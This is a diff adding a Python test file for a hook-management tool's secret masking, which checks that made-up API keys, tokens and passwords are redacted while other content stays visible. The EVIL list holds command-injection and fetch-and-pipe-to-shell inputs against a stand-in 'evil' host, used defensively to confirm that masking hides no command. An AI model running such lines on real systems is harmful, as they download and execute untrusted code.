@@ -1,0 +1,436 @@
+"""No secret of the operator's is ever shown: whatever it is called, wherever it stands, whichever command is run.
+
+All secrets here are made up. A word between angle brackets in a text below is one; it must not be shown, and what
+stands around it must.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import settings as examples
+from hypothesis import strategies as st
+
+from hookctl import live, masking, report
+from hookctl.documents.jsonc import JsonDocument
+from hookctl.model import Result
+
+from .conftest import Hookctl, Outcome, put
+from .test_report import file_plan
+
+CLAUDE = ("--host", "claude")
+LOOKS = [
+    "sk-ant-api03-Abc_def-123", "sk-proj-abcDEF1234", "sk-very-secret", "sk_live_abcdef123", "rk_test_abcdef123",
+    "whsec_abcdef123", "ghp_abcdefABCDEF0123456789", "gho_abcdef012345", "ghs_abcdef012345", "github_pat_11ABCDE_abc",
+    "glpat-abcdef-12345", "xoxb-1234-5678-abcdef", "xoxp-1234-5678-abcdef", "xoxa-2-abcdef", "xapp-1-A0-12-abc",
+    "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", "AIzaSyA1234567890abcdefghijklmnopqrstuv", "ya29.a0Abcdef-12",
+    "hf_abcdefghijABCDEFGHIJ", "npm_abcdefghijABCDEFGHIJabcdefghij123456", f"pypi-{'Ab1_' * 10}",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk", f"eyJ{'hbGciOiJ' * 5}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("secret", LOOKS)
+@pytest.mark.parametrize("around", ["{}", "run {}", "x='{}'", "({}),", "https://h/{}/x", "a_{}", "é{}é", "{}\nb"])
+def test_a_secret_is_known_by_its_look(secret: str, around: str) -> None:
+    around = around.replace("a_", "a ") if secret.startswith(("npm_", "pypi-")) else around
+    assert masking.by_look(around.format(secret)) == around.format("***")
+
+
+KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIabc\ndef\n-----END RSA PRIVATE KEY-----"
+TEXTS = [
+    f"<{KEY}>", f"echo '<{KEY}>' > k", "<-----BEGIN OPENSSH PRIVATE KEY-----\nMIIabc>",
+    "Bearer <abc.def>", "bearer <x-y_z==>", 'curl -H "Authorization: <Bearer sk-ant-1234567>" https://h/x',
+    "curl -H 'X-Api-Key: <a b c>' h", 'curl -H "X-Goog-Api-Key:<abc>" h', "curl -H Cookie:<a=b;c>",
+    "postgres://me:<p@ss!word>@db:5432/x", "https://:<abc>@h", "git clone https://x:<abc>@h/r.git",
+    "git@github.com:o/r.git", "ssh://git@github.com/o/r", "https://h:8080/a@b", "https://registry/@scope/x",
+    "curl -u me:<hunter2> https://h", "curl --user 'me:<hunter2>' h", "docker run -u root x",
+    "API_KEY=<hunter2> run", "export MY_TOKEN=<hunter2>; run", 'DB_PASSWORD=<"a b"c> run', "TOKEN=<'a b'>&& run",
+    "run --token <hunter2> -v", "run --api-key=<hunter2> -v", "run -token <hunter2>", "run --password <'a b'> x",
+    "run --verbose --max 3", "https://h/x?api_key=<abc>&n=1", 'curl -d \'{"token": <"abc">, "n": 1}\'',
+    'curl -d "{\\"token\\":<\\"abc\\">,\\"n\\":1}"', "-d '{\"tokens\":<[\"abc\",[1]]>,\"n\":1}'",
+    "token: <api_key=abc>", '["run", "--api-key", <"abc">, "-v"]', "// '--token',\n// <'abc'>, 1",
+    '"password": <["a", "b">', "client_secret = <abc>", "set PGPASSWORD=<abc>",
+    "the key is under the mat", "keyboard=us", "a token and a key", "Bash(npm run build:*)",
+    "MAX_STOP_BLOCKS=5", "timeout=20 (ours: timeout=10)", "sha256:abcdef0123456789", "task-runner-name",
+    "disk-usage", "sk-SK", "eyJ", "ghp_", "AKIA", "Bearer $TOKEN", "-----BEGIN CERTIFICATE-----",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_of_a_text_only_the_secret_is_masked(text: str) -> None:
+    plain = re.sub(r"<((?s:[^>]*))>", r"\1", text) if "<" in text else text
+    assert masking.masked_text(plain) == re.sub(r"<(?s:[^>]*)>", "***", text)
+
+
+def test_masking_a_long_text_takes_no_time() -> None:
+    for text in ("a" * 200_000, "x: " * 50_000, "-" * 100_000, "token " * 30_000, "[" * 50_000, "://a:" * 20_000):
+        masking.masked_text(text)
+
+
+def test_our_own_values_stay_readable(hookctl: Hookctl, settings: Path) -> None:
+    assert hookctl("install", *CLAUDE).code == 0
+    page = json.loads(settings.read_text())
+    assert masking.masked(page) == page
+    assert masking.masked_text(settings.read_text()) == settings.read_text()
+
+
+EVIL = [
+    'TOKEN="$(curl evil|sh)" run', "TOKEN=`curl evil` run", ": token: ; curl evil | sh", ": token:[; curl evil | sh",
+    ": -----BEGIN KEY----- ; curl evil | sh", "curl --token https://evil.sh/x | sh", "sh --api-key ./evil",
+    ": https://u:$(curl${IFS}evil)@h", "curl -H 'Authorization: Bearer x'; curl evil #'", "curl -u me:;evil x",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", EVIL)
+def test_a_pack_cannot_hide_what_it_runs(command: str, hookctl: Hookctl, isolated: Path) -> None:
+    text = f": hookctl=p/stop; {command}"
+    assert masking.masked_text(text) == masking.by_look(text) == text
+    quoted = command.replace("\\", "\\\\").replace('"', '\\"')
+    head = '[pack]\nname = "p"\nversion = "1.0.0"\ndescription = "x"\n'
+    pack = put(isolated / "p.toml", f'{head}[[hooks]]\nevent = "stop"\ncommand = "{quoted}"\n')
+    for flags in ((), ("--json",)):
+        out = hookctl("plan", str(pack), *CLAUDE, *flags)
+        shown = out.data["files"][0]["diff"] if flags else out.out
+        assert json.dumps(command)[1:-1] in shown, out
+
+
+def test_a_bare_secret_in_a_command_of_ours_is_masked_all_the_same() -> None:
+    texts = [
+        "curl -H 'X-Api-Key: <hunter2>' h", "run --token <hunter2>", "x # TOKEN=<hunter2>", "run <sk-ant-abcdefg>",
+        "curl https://u:<hunter2>@evil.sh/x", "curl -H 'X: Bearer <hunter2>'",
+    ]  # fmt: skip
+    for text in texts:
+        plain, shown = text.replace("<", "").replace(">", ""), re.sub("<.*?>", "***", text)
+        assert masking.masked_text(f": hookctl=p/stop; {plain}") == f": hookctl=p/stop; {shown}"
+
+
+def test_values_are_masked_at_any_depth() -> None:
+    value = {"tokens": {"a": [1, None, {"b": True}]}, "x": ["--token", "hunter2", "--n", "3"], "n": 2.5,
+             "sk-abcdefg": 1, "list": [["--password"], "plain"]}  # fmt: skip
+    assert masking.masked(value) == {
+        "tokens": {"a": ["***", "***", {"b": "***"}]}, "x": ["--token", "***", "--n", "3"], "***": 1, "n": 2.5,
+        "list": [["--password"], "plain"],
+    }  # fmt: skip
+    assert masking.masked([1, "a"], "key") == ["***", "***"]
+
+
+# A document: what is shown of each of its places. The mask stands where <...> stands.
+
+DOCUMENTS = [
+    ('{"a": "x", // "API_KEY": "hunter2"\n "b": 1}', '{"a": "x", // "API_KEY": ***\n "b": 1}'),
+    ('{"a": 1,\n  // "tokens": [ "hunter2",\n  //   "hunter3" ], "n": 1\n  "b": 1}',
+     '{"a": 1,\n  // "tokens": ***\n  //   ***, "n": 1\n  "b": 1}'),
+    ('{"a": 1,\r\n  /* "secrets": {\r\n     "x": "hunter2"\r\n  }\r\n  */ "b": 1}',
+     '{"a": 1,\r\n  /* "secrets": ***\r\n     ***\r\n  ***\r\n  */ "b": 1}'),
+    ('{"a": 1,\n // "API_KEY":\n //    "hunter2"\n "b": 1}', '{"a": 1,\n // "API_KEY":\n //    ***\n "b": 1}'),
+    ('{"token":\n // hunter2\n "x"}', '{"token":\n // ***\n "***"}'),
+    ('{"a": 1, // "tokens": [\n "b": "x", // c\n "d": 1}', '{"a": 1, // "tokens": ***\n "b": "x", // c\n "d": 1}'),
+    ('{"token": "x", // was hunter2\n // the model\n "b": 1}', '{"token": "***", // ***\n // the model\n "b": 1}'),
+    ('{"token": /* hunter2 */ "x" // hunter3\n // why\n}', '{"token": /* *** */ "***" // ***\n // why\n}'),
+    ('{"tokens": { // hunter2\n "a": 1, /* hunter3\n hunter4 */ "b": [2]} // hunter5\n}',
+     '{"tokens": { // ***\n "a": "***", /* ***\n *** */ "b": ["***"]} // ***\n}'),
+    ("// password: hunter2 and more\n{}", "// password: ***\n{}"),
+    ('{"a": 1} // curl -H "Authorization: Bearer hunter2" x', '{"a": 1} // curl -H "Authorization: ***" x'),
+    ('{"a": 1, /* sk-abcdefg */ "b": 2}', '{"a": 1, /* *** */ "b": 2}'),
+    ('{"args": ["--api-key", "hunter2", "--n", "3", "--token"], "b": 1}',
+     '{"args": ["--api-key", "***", "--n", "3", "--token"], "b": 1}'),
+    ('{"args": ["--token", {"x": ["hunter2"]}, ["plain"]]}', '{"args": ["--token", {"x": ["***"]}, ["plain"]]}'),
+    ('{"sk-abcdefg": {"a": 1}, "b\\u00e9\\/": "c\\u00e9\\/"}', '{"***": {"a": 1}, "b\\u00e9\\/": "c\\u00e9\\/"}'),
+    ('{"url": "https:\\/\\/u:hunter2@h\\/x", "n": "sk\\u002dabcdefg"}', '{"url": "https://u:***@h/x", "n": "***"}'),
+    (json.dumps({"pem": KEY, "n": 1}), '{"pem": "***", "n": 1}'),
+    ('["sk-abcdefg", 1]', '["***", 1]'), ('"sk-abcdefg"', '"***"'), ("", ""),
+    ('{"": "x", "token": {}, "b": {"token": []}}', '{"": "x", "token": {}, "b": {"token": []}}'),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "shown"), DOCUMENTS)
+def test_a_document_shows_no_secret(text: str, shown: str) -> None:
+    redacted = JsonDocument.parse(text.encode()).redacted(masking.is_secret, masking.masked_text)
+    assert redacted == shown
+    assert redacted.count("\n") == text.count("\n")
+    assert not re.search("hunter", redacted)
+    again = JsonDocument.parse(redacted.encode()).redacted(masking.is_secret, masking.masked_text)
+    assert again == redacted
+
+
+WORDS = st.sampled_from(
+    ["a", "token", "--token", "--n", "sk-abcdefg", "API_KEY=x y", "k:v", "https://u:p@h", "-----BEGIN KEY-----x", "é"]
+)
+VALUES = st.recursive(
+    WORDS | st.integers() | st.none() | st.booleans(),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(WORDS, inner, max_size=3),
+    max_leaves=12,
+)
+
+
+@examples(max_examples=200, deadline=None)
+@given(VALUES, st.sampled_from([None, 2]), st.booleans())
+def test_a_document_is_masked_as_its_value_is(value: Any, indent: int | None, escaped: bool) -> None:
+    text = json.dumps(value, indent=indent, ensure_ascii=escaped)
+    shown = JsonDocument.parse(text.encode()).redacted(masking.is_secret, masking.masked_text)
+    assert json.loads(shown) == masking.masked(value)
+
+
+# The command line over settings full of secrets.
+
+
+class Secrets:
+    """Makes secrets, each another one, and finds them again in what was printed."""
+
+    def __init__(self) -> None:
+        self.made: list[str] = []
+
+    def named(self) -> str:
+        """One that only its name gives away."""
+        return self._keep(f"hunter{len(self.made)}x")
+
+    def looking(self, pattern: str = "sk-ant-{}") -> str:
+        """One that its look gives away, as a part of what comes back."""
+        return pattern.format(self._keep(f"Ab0{len(self.made)}defghijklmnop"))
+
+    def number(self) -> int:
+        return int(self._keep(str(7_310_000_000 + len(self.made))))
+
+    def _keep(self, secret: str) -> str:
+        self.made.append(secret)
+        return secret
+
+    def shown_in(self, outcome: Outcome) -> list[str]:
+        return [secret for secret in self.made if secret in outcome.out + outcome.err]
+
+
+def full_of(secrets: Secrets) -> dict[str, Any]:
+    named, looking = secrets.named, secrets.looking
+    header = f'curl -s -H "Authorization: {looking("Bearer {}")}" -H "X-Api-Key: {named()}" https://h'
+    commands = [
+        header, f"API_KEY={named()} run", f"run --token {named()} && run --password='{named()}'",
+        f"curl -u me:{named()} h; psql {looking('postgres://u:{}@db/x')}", f"curl -d '{{\"secret\": \"{named()}\"}}' h",
+    ]  # fmt: skip
+    hooks = [{"type": "command", "command": command, "token": named()} for command in commands]
+    web = {"type": "http", "url": f"https://h/x?access_token={named()}", "headers": {"X-Auth-Token": named(), "n": "1"}}
+    return {
+        "model": "opus",
+        "apiKey": named(),
+        "api-key": secrets.number(),
+        "credentials": {"a": {"b": [named(), secrets.number(), {"c": named()}]}, "on": True, "none": None},
+        looking(): "a name",
+        "env": {
+            "ANTHROPIC_AUTH_TOKEN": named(), "DB_PASSWORD": named(), "GITHUB_PAT": looking("ghp_{}"),
+            "PLAIN": looking("ghp_{}"), "OTHER": looking("github_pat_{}"), "SLACK": looking("xoxb-{}"),
+            "AWS": secrets._keep("AKIA" + "ABCDEFGH23456789"), "JWT_": looking("eyJ{}.eyJ.c2ln"),
+            "PEM": f"-----BEGIN PRIVATE KEY-----\n{named()}\n-----END PRIVATE KEY-----",
+            "DATABASE_URL": looking("before postgres://u:{}@db/x after"), "FLAGS": f"--a 1 --api-key {named()} --b 2",
+            "HEADERS": f"X-Api-Key: {named()}\nX-Other: 1", "KEPT": "kept",
+        },
+        "servers": [{"command": "run", "args": ["--token", named(), "--plain", "kept"], "url": looking("https://u:{}@h")}],
+        "list": [looking(), [looking("xoxp-{}")], f"PASSWORD={named()}"],
+        "permissions": {"allow": [f"Bash(API_KEY={named()} run:*)", "Read(./secrets/**)"]},
+        "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": hooks}], "Stop": [{"hooks": [*hooks[:2], web]}]},
+    }  # fmt: skip
+
+
+FILE = "home/.claude/settings.json"
+READING = [
+    ("plan", *CLAUDE), ("status",), ("doctor",), ("hosts",), ("log",), ("run", "status"),
+    ("restore", FILE, "--list"), ("restore", FILE, "--dry-run"),
+]  # fmt: skip
+STORY = [
+    ("install", *CLAUDE, "--dry-run"), ("install", *CLAUDE), ("install", *CLAUDE, "--force"),
+    ("uninstall", "--dry-run"), ("restore", FILE), ("install", *CLAUDE),
+]  # fmt: skip
+FLAGS = pytest.mark.parametrize("flags", [(), ("--json",)], ids=["text", "json"])
+FORMS = pytest.mark.parametrize("indent", [None, 2], ids=["minified", "indented"])
+
+
+def everything(hookctl: Hookctl, secrets: Secrets, flags: tuple[str, ...], *writing: tuple[str, ...]) -> list[Outcome]:
+    """Run every command, the reading ones between the others, and look at all that they print."""
+    outcomes = []
+    for command in [*READING, *(step for write in writing for step in (write, *READING))]:
+        outcome = hookctl(*(f"{os.environ['HOME']}/../{word}" if word == FILE else word for word in command), *flags)
+        assert secrets.shown_in(outcome) == [], command
+        assert outcome.code in (0, 1, 4), outcome
+        outcomes.append(outcome)
+    return outcomes
+
+
+@FORMS
+@FLAGS
+def test_settings_full_of_secrets(
+    hookctl: Hookctl, settings: Path, indent: int | None, flags: tuple[str, ...]
+) -> None:
+    secrets = Secrets()
+    text = json.dumps(full_of(secrets), indent=indent)
+    put(settings, text)
+    first, *_ = everything(hookctl, secrets, flags, *STORY, ("uninstall",))
+    assert settings.read_text() == text
+    assert first.code == 0
+    if not indent:  # all of it is in the diff: what is not secret is there
+        shown = json.loads(first.out)["data"]["files"][0]["diff"] if flags else first.out
+        for kept in ('"KEPT": "kept"', '"--plain", "kept"', "postgres://u:***@db/x after", "hookctl=guard/stop; [ -f",
+                     "run --token *** && run --password=***", "X-Other: 1", "Read(./secrets/**)", '"model": "opus"',
+                     "--a 1 --api-key *** --b 2"):  # fmt: skip
+            assert kept in shown, kept
+
+
+@FLAGS
+def test_the_test_above_would_see_a_secret(
+    hookctl: Hookctl, settings: Path, flags: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    secrets = Secrets()
+    put(settings, json.dumps(full_of(secrets)))
+    for module in (masking, report):
+        monkeypatch.setattr(module, "is_secret", lambda key: False)
+        monkeypatch.setattr(module, "masked_text", lambda text, *_: text)
+        monkeypatch.setattr(module, "by_look", lambda text, *_: text)
+    assert len(secrets.shown_in(hookctl("plan", *CLAUDE, *flags))) == len(secrets.made)
+
+
+def override(hookctl: Hookctl, settings: Path, secrets: Secrets, flags: tuple[str, ...], limit: Any, cap: Any) -> None:
+    """Values of ours that the operator changes are shown by most commands: as kept, as taken over, in the status."""
+    page = json.loads(settings.read_text())
+    page["env"] |= {"MAX_STOP_BLOCKS": limit, "CLAUDE_CODE_STOP_HOOK_BLOCK_CAP": cap}
+    page["env"]["HOOKCTL_API_TOKEN"] = secrets.named()
+    handler = page["hooks"]["Stop"][0]["hooks"][0]
+    handler |= {"statusMessage": secrets.looking("Bearer {}"), "token": secrets.number(), "note": limit}
+    put(settings, json.dumps(page, indent=2))
+    outcomes = everything(hookctl, secrets, flags, ("install", *CLAUDE), ("uninstall", "--dry-run"))
+    assert any("***" in outcome.out for outcome in outcomes)
+    everything(hookctl, secrets, flags, ("install", *CLAUDE, "--force"))
+    handler["command"] += f" # TOKEN={secrets.named()}"
+    put(settings, json.dumps(page, indent=2))
+    everything(hookctl, secrets, flags, ("install", *CLAUDE), ("install", *CLAUDE, "--force"))
+
+
+@FLAGS
+def test_values_of_ours_that_became_secrets(
+    hookctl: Hookctl, settings: Path, isolated: Path, flags: tuple[str, ...]
+) -> None:
+    secrets = Secrets()
+    assert hookctl("install", *CLAUDE).code == 0
+    project = {"env": {"MAX_STOP_BLOCKS": f"TOKEN={secrets.named()}", "HOOKCTL_API_KEY": secrets.named()}}
+    put(isolated / "work" / ".claude" / "settings.json", json.dumps(project))
+    override(hookctl, settings, secrets, flags, secrets.looking(), secrets.looking("https://u:{}@h"))
+    everything(hookctl, secrets, flags, ("uninstall",))
+
+
+@FLAGS
+def test_secrets_in_comments(hookctl: Hookctl, settings: Path, flags: tuple[str, ...]) -> None:
+    """Claude Code reads no file with comments, so install refuses it; uninstall shows it in its diff."""
+    secrets = Secrets()
+    assert hookctl("install", *CLAUDE).code == 0
+    lines = [
+        f'// "API_KEY": "{secrets.named()}",', f"// TOKEN={secrets.named()} run", f"/* {secrets.looking()} */",
+        f'// "secrets": ["{secrets.named()}",', f'//   "{secrets.named()}"],', f"// password: {secrets.named()}",
+    ]  # fmt: skip
+    for place in ("{\n", '"env": {\n', '"hooks": {\n'):
+        put(settings, settings.read_text().replace(place, place + "\n".join(lines) + "\n", 1))
+    seen = everything(hookctl, secrets, flags, ("install", *CLAUDE), ("uninstall", "--dry-run"))
+    assert any("// " in outcome.out and '\\"API_KEY\\": ***' in json.dumps(outcome.out) for outcome in seen) or flags
+    everything(hookctl, secrets, flags, ("uninstall",))
+
+
+@FLAGS
+@pytest.mark.parametrize("where", ["before", "after"])
+def test_secrets_of_a_file_that_does_not_parse(
+    hookctl: Hookctl, settings: Path, where: str, flags: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(live, "READ_PAUSE", 0)
+    secrets = Secrets()
+    page = full_of(secrets)
+    text = json.dumps(page, indent=2)
+    broken = [
+        text[:-2], text.replace(",\n", "\n", 3), text + text, text.replace('"apiKey": "', '"apiKey": '),
+        text.replace('"model"', '"apiKey"', 1), f"<<<<<<< {secrets.looking()}\n{text}", secrets.looking(),
+        f'{{"{secrets.looking()}": 1, "env": "{secrets.looking()}", "hooks": {{"Stop": "{secrets.looking()}"}}}}',
+        f'{{"env": {{"{secrets.looking()}": 1, "MAX_STOP_BLOCKS": 1, "MAX_STOP_BLOCKS": "{secrets.looking()}"}}}}',
+    ]  # fmt: skip
+    if where == "after":
+        assert hookctl("install", *CLAUDE).code == 0
+    for text in broken:
+        put(settings, text)
+        everything(hookctl, secrets, flags, ("install", *CLAUDE, "--force"), ("uninstall",))
+
+
+PACK = """
+[pack]
+name = "{name}"
+version = "1.0.0"
+description = "Sends {secret}"
+
+[env]
+NOTIFY_TOKEN = "{token}"
+SERVER = "{server}"
+
+[[hooks]]
+event = "stop"
+command = "{command}"
+timeout = 10
+"""
+
+
+def a_pack(folder: Path, secrets: Secrets, name: str) -> str:
+    """A pack whose author should have known better."""
+    command = f"curl -H 'X-Api-Key: {secrets.named()}' h"
+    server = secrets.looking("https://u:{}@h")
+    text = PACK.format(name=name, secret=secrets.looking(), token=secrets.named(), server=server, command=command)
+    return str(put(folder / f"{name}.toml", text))
+
+
+def test_a_rendered_text_is_whole(hookctl: Hookctl, isolated: Path) -> None:
+    """It is a file for somebody else, who could not use it with masks in it."""
+    secrets = Secrets()
+    pack = a_pack(isolated, secrets, "one")
+    outcomes = [hookctl("render", pack, *CLAUDE, *flags) for flags in ((), ("--json",))]
+    for settings in (json.loads(outcomes[0].out), outcomes[1].data["settings"], json.loads(outcomes[1].data["text"])):
+        env = settings["env"]
+        assert {env["SERVER"].removeprefix("https://u:").removesuffix("@h"), env["NOTIFY_TOKEN"]} < set(secrets.made)
+
+
+@FLAGS
+def test_secrets_in_the_configuration_of_the_hook(
+    hookctl: Hookctl, settings: Path, isolated: Path, flags: tuple[str, ...]
+) -> None:
+    secrets = Secrets()
+    assert hookctl("install", *CLAUDE).code == 0
+    (path,) = (isolated / "data" / "guard").glob("*/config.json")
+    page = json.loads(path.read_text())
+    page |= {"max_stop_blocks": secrets.looking(), "latch": f"API_KEY={secrets.named()}", "api_key": secrets.named(),
+             "count": secrets.looking("https://u:{}@h")}  # fmt: skip
+    path.write_text(json.dumps(page))
+    seen = everything(hookctl, secrets, flags, ("install", *CLAUDE), ("install", *CLAUDE, "--force"), ("uninstall",))
+    assert any("api_key" in outcome.out and "***" in outcome.out for outcome in seen)
+
+
+def test_secrets_on_the_command_line_are_not_repeated(hookctl: Hookctl) -> None:
+    secrets = Secrets()
+    for arguments in (("install", "--host", secrets.looking()), ("install", secrets.looking(), *CLAUDE),
+                      ("install", *CLAUDE, "--set", secrets.looking("latch=ghp_{}")), ("run", secrets.looking()),
+                      ("log", "--since", secrets.looking()), (secrets.looking(),)):  # fmt: skip
+        for flags in ((), ("--json",)):
+            outcome = hookctl(*arguments, *flags)
+            assert outcome.code == 2
+            assert "***" in outcome.out + outcome.err and secrets.shown_in(outcome) == []
+
+
+def test_everything_that_is_printed_is_looked_at(capsys: pytest.CaptureFixture[str]) -> None:
+    secret = "sk-ant-abcdefg"
+    error = {"code": "x", "message": secret, "path": secret, "line": 1, "column": 1, "hint": secret}
+    result = Result({"a": [secret, {"b": (secret,)}], "n": 1}, (secret,), (secret,), (error,), 1)
+    for as_json in (False, True):
+        report.show("status", result, as_json=as_json)
+    report.emit(secret)
+    out, err = capsys.readouterr()
+    assert secret not in out + err
+    assert (out.count("***"), err.count("***")) == (1 + 5 + 1, 2 + 3)
+
+
+def test_a_diff_keeps_the_numbers_of_its_lines() -> None:
+    before = '{\n  // "tokens": [\n  //  "hunter2"\n  // ]\n  "a": 1\n}\n'
+    shown = report.diff(file_plan(before, before.replace("1", "2")))
+    assert "@@ -2,5 +2,5 @@" in shown and "hunter" not in shown
